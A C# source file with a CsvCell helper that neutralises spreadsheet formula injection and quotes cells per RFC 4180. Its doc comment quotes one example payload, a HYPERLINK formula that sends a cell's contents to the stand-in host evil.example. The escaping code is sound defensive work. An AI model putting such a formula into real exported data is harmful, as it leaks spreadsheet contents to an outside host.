namespace Appliance.Export;

/// <summary>
/// One CSV cell as a spreadsheet may safely open it. A scraped title such as <c>=HYPERLINK("http://evil.example/?x="&amp;A1,"Click me")</c>
/// must reach the customer's spreadsheet as text, not as a formula: a cell starting with <c>=</c>, <c>+</c>, <c>-</c>,
/// <c>@</c>, tab or carriage return gets a leading <c>'</c> (OWASP's CSV injection rule), and a cell holding the
/// delimiter, a quote or a line break is quoted (RFC 4180).
/// </summary>
public static class CsvCell
{
    private static readonly System.Buffers.SearchValues<char> NeedsQuotes = System.Buffers.SearchValues.Create(",\"\r\n");

    public static string Escape(string text)
    {
        if (text.Length > 0 && StartsFormula(text[0]))
        {
            text = "'" + text;
        }

        return text.AsSpan().IndexOfAny(NeedsQuotes) < 0 ? text : "\"" + text.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";
    }

    public static bool StartsFormula(char first) => first is '=' or '+' or '-' or '@' or '\t' or '\r';
}
